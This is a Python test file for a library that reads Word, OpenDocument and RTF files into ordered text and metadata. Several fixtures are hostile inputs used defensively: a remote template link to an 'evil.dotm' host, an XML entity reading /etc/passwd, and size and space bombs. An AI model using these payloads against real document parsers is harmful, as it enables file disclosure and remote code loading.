"""Word, OpenDocument and RTF: what stands on the page is in the text, in the order in which it is read."""

import io
import re
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime

import docx
import pytest

from answerable.errors import UnreadableError
from answerable.readers.limits import Limits
from answerable.readers.outcome import ReadOutcome
from answerable.vocabulary.rendition import Rendition

Read = Callable[..., ReadOutcome]
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def rendition(outcome: ReadOutcome) -> Rendition:
    assert outcome.rendition is not None
    return outcome.rendition


def word_file(document: "docx.document.Document") -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def repacked(data: bytes, change: Callable[[str, bytes], bytes | None], **added: bytes) -> bytes:
    """The same zip with parts changed, left out (None) or added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            body = change(name, old.read(name))
            if body is not None:
                new.writestr(name, body)
        for name, body in added.items():
            new.writestr(name, body)
    return buffer.getvalue()


def with_body(xml: str) -> bytes:
    """A Word file whose body is this markup."""
    body = f'<w:document xmlns:w="{WORD}"><w:body>{xml}</w:body></w:document>'.encode()
    return repacked(
        word_file(docx.Document()), lambda name, data: body if name == "word/document.xml" else data
    )


def paragraph(*runs: str) -> str:
    return "<w:p>" + "".join(f'<w:r><w:t xml:space="preserve">{run}</w:t></w:r>' for run in runs) + "</w:p>"


def test_paragraphs_and_tables_stand_in_document_order(read: Read) -> None:
    document = docx.Document()
    document.add_heading("A heading")
    document.add_paragraph("Before the table.")
    table = document.add_table(2, 2)
    for index, words in enumerate(["Name", "Rank", "Teo Marun", "Colonel"]):
        table.cell(index // 2, index % 2).text = words
    document.add_paragraph("After it.\tTabbed\nand broken")
    found = rendition(read(word_file(document), "a.docx"))
    assert (
        found.text
        == "A heading\nBefore the table.\nName\tRank\nTeo Marun\tColonel\nAfter it.\tTabbed\nand broken\n"
    )


def test_headers_come_first_and_footers_last(read: Read) -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "SECRET"
    document.sections[0].footer.paragraphs[0].text = "page one of many"
    document.add_paragraph("The body.")
    assert rendition(read(word_file(document), "a.docx")).text == "SECRET\nThe body.\npage one of many\n"


def test_the_document_says_its_title_and_author_but_no_date_of_publication(read: Read) -> None:
    document = docx.Document()
    document.core_properties.title = "Orders of battle"
    document.core_properties.author = "Ana Belić"
    document.core_properties.created = datetime(2014, 3, 5, 10, 0, tzinfo=UTC)
    metadata = rendition(read(word_file(document), "a.docx")).metadata
    assert metadata["title"] == "Orders of battle"
    assert metadata["author"] == "Ana Belić"
    assert metadata["created"].startswith("2014-03-05T10:00")
    assert "published" not in metadata


def test_tracked_changes_are_read_as_accepted_and_noted(read: Read) -> None:
    xml = (
        '<w:p><w:r><w:t xml:space="preserve">Colonel </w:t></w:r>'
        "<w:ins><w:r><w:t>Marun</w:t></w:r></w:ins>"
        "<w:del><w:r><w:delText>Voss</w:delText></w:r></w:del></w:p>"
    )
    found = rendition(read(with_body(xml), "a.docx"))
    assert found.text == "Colonel Marun\n"
    assert any("tracked changes" in note for note in found.notes)


def test_text_boxes_links_content_controls_and_nested_tables_are_read_once(read: Read) -> None:
    box = (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f"<mc:Choice><w:txbxContent>{paragraph('in the box')}</w:txbxContent></mc:Choice>"
        f"<mc:Fallback><w:txbxContent>{paragraph('in the box')}</w:txbxContent></mc:Fallback>"
        "</mc:AlternateContent>"
    )
    inner = f"<w:tbl><w:tr><w:tc>{paragraph('inner')}</w:tc></w:tr></w:tbl>"
    xml = (
        f"<w:p><w:r><w:t>words</w:t></w:r><w:hyperlink><w:r><w:t> linked</w:t></w:r></w:hyperlink>{box}</w:p>"
        f"<w:sdt><w:sdtContent>{paragraph('controlled')}</w:sdtContent></w:sdt>"
        f"<w:tbl><w:tr><w:tc>{paragraph('outer')}{inner}</w:tc><w:tc>{paragraph('next')}</w:tc></w:tr></w:tbl>"
        f"<w:p><w:r><w:instrText>HYPERLINK x</w:instrText></w:r></w:p>"
    )
    assert (
        rendition(read(with_body(xml), "a.docx")).text
        == "words linked\nin the box\ncontrolled\nouter inner\tnext\n\n"
    )


def test_footnotes_are_marked_where_they_are_called(read: Read) -> None:
    document = docx.Document()
    document.add_paragraph("He commanded it")
    notes = (
        f'<w:footnotes xmlns:w="{WORD}">'
        f'<w:footnote w:type="separator" w:id="-1">{paragraph("___")}</w:footnote>'
        f'<w:footnote w:id="2">{paragraph("Interview, Sarfa.")}</w:footnote></w:footnotes>'
    ).encode()

    def change(name: str, data: bytes) -> bytes:
        if name == "word/document.xml":
            return data.replace(b"commanded it</w:t>", b'commanded it</w:t><w:footnoteReference w:id="2"/>')
        if name == "word/_rels/document.xml.rels":
            kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
            relation = (
                b'<Relationship Id="rId99" Type="' + kind + b'" Target="footnotes.xml"/></Relationships>'
            )
            return data.replace(b"</Relationships>", relation)
        return data

    data = repacked(word_file(document), change, **{"word/footnotes.xml": notes})
    assert rendition(read(data, "a.docx")).text == "He commanded it[2]\n[2] Interview, Sarfa.\n"


def test_a_remote_template_is_named_and_not_fetched(read: Read) -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{kind}" Target="http://198.51.100.1/evil.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    document = docx.Document()
    document.add_paragraph("The body.")
    data = repacked(
        word_file(document),
        lambda name, body: None if name == "word/_rels/settings.xml.rels" else body,
        **{"word/_rels/settings.xml.rels": rels},
    )
    found = rendition(read(data, "a.docx"))
    assert found.text == "The body.\n"
    assert found.notes == (
        "it names a remote template (http://198.51.100.1/evil.dotm), which was not fetched",
    )


def test_an_entity_is_not_resolved_and_noted(read: Read, tmp_path: object) -> None:
    def change(name: str, data: bytes) -> bytes:
        if name != "word/document.xml":
            return data
        doctype = b'<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        declaration, rest = data.split(b"?>", 1)
        return declaration + b"?>" + doctype + rest.replace(b"The body", b"The &secret; body")

    document = docx.Document()
    document.add_paragraph("The body.")
    found = rendition(read(repacked(word_file(document), change), "a.docx"))
    assert "root:" not in found.text
    assert any("document type" in note for note in found.notes)


@pytest.mark.parametrize(
    ("part", "kind"),
    [("word/document.xml", "damaged"), ("_rels/.rels", "damaged"), ("[Content_Types].xml", None)],
)
def test_a_broken_part_is_named(read: Read, part: str, kind: str | None) -> None:
    document = docx.Document()
    document.add_paragraph("The body.")
    data = repacked(word_file(document), lambda name, body: b"<broken" if name == part else body)
    if kind is None:
        assert rendition(read(data, "a.docx")).text == "The body.\n"
        return
    with pytest.raises(UnreadableError) as caught:
        read(data, "a.docx")
    assert caught.value.kind == kind
    assert part in str(caught.value)


def test_a_document_that_unpacks_to_too_much_is_refused(read: Read) -> None:
    document = docx.Document()
    document.add_paragraph("x" * 100_000)
    for limits in (Limits(member_bytes=10_000), Limits(total_member_bytes=10_000)):
        with pytest.raises(UnreadableError) as caught:
            read(word_file(document), "a.docx", limits=limits)
        assert caught.value.kind == "too_large"


ODT_PARTS = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "content.xml": """<?xml version="1.0"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:text>
<text:sequence-decls><text:p>never</text:p></text:sequence-decls>
<text:h>A  heading</text:h>
<text:p>Before<text:s text:c="3"/>the
 table<text:note><text:note-citation>1</text:note-citation><text:note-body><text:p>Interview.</text:p>
</text:note-body></text:note>.<text:line-break/>Next<text:tab/>line</text:p>
<table:table><table:table-header-rows><table:table-row><table:table-cell><text:p>Name</text:p>
</table:table-cell><table:table-cell><text:p>Rank</text:p></table:table-cell></table:table-row>
</table:table-header-rows><table:table-row><table:table-cell><text:p>Teo</text:p><text:p>Marun</text:p>
</table:table-cell><table:table-cell><table:table><table:table-row><table:table-cell><text:p>Colonel</text:p>
</table:table-cell></table:table-row></table:table></table:table-cell></table:table-row></table:table>
<text:list><text:list-item><text:p>an item</text:p></text:list-item></text:list>
</office:text></office:body></office:document-content>""",
    "styles.xml": """<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:master-styles><style:master-page>
<style:header><text:p>SECRET</text:p></style:header><style:footer><text:p>the end</text:p></style:footer>
</style:master-page></office:master-styles></office:document-styles>""",
    "meta.xml": """<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0">
<office:meta><dc:title>Orders</dc:title><meta:initial-creator>Ana Belić</meta:initial-creator>
<meta:creation-date>2014-03-05T10:00:00</meta:creation-date></office:meta></office:document-meta>""",
}


def odt(**changed: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in {**ODT_PARTS, **changed}.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def test_an_opendocument_text_is_read_in_order(read: Read) -> None:
    outcome = read(odt(), "a.odt")
    assert outcome.media_type == "application/vnd.oasis.opendocument.text"
    assert rendition(outcome).text == (
        "SECRET\nA heading\nBefore   the table[1].\nNext\tline\nName\tRank\nTeo Marun\tColonel\nan item\n"
        "the end\n[1] Interview.\n"
    )
    assert rendition(outcome).metadata == {
        "title": "Orders",
        "author": "Ana Belić",
        "created": "2014-03-05T10:00:00",
    }


def test_an_opendocument_text_that_asks_for_endless_spaces_gets_some(read: Read) -> None:
    content = ODT_PARTS["content.xml"].replace('text:c="3"', 'text:c="999999999"')
    assert len(rendition(read(odt(**{"content.xml": content}), "a.odt")).text) < 2_000


def test_an_encrypted_opendocument_text_is_said_to_be_locked(read: Read) -> None:
    manifest = "<manifest><manifest:encryption-data/></manifest>"
    with pytest.raises(UnreadableError) as caught:
        read(odt(**{"META-INF/manifest.xml": manifest}), "a.odt")
    assert caught.value.kind == "encrypted"


def test_rtf_is_read_with_its_accents_and_what_it_says_of_itself(read: Read) -> None:
    source = (
        r"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0 Arial;}}{\info{\title Orders of battle}{\author Ana B\'e9lic}}"
        r"{\footer page}El a\'f1o \u1055?: Colonel Marun.\par Second\tab line.\par}"
    )
    outcome = read(source.encode("ascii"), "a.rtf")
    assert outcome.media_type == "application/rtf"
    found = rendition(outcome)
    assert found.text == "El año П: Colonel Marun.\nSecond\tline.\n"
    assert found.metadata == {"title": "Orders of battle", "author": "Ana Bélic"}
    assert found.notes == ("its footers are not in the text",)


def test_half_a_surrogate_pair_in_rtf_is_replaced_and_noted(read: Read) -> None:
    found = rendition(read(rb"{\rtf1 a\u-10179?b}", "a.rtf"))
    assert re.fullmatch("a\ufffdb", found.text)
    assert any("U+FFFD" in note for note in found.notes)
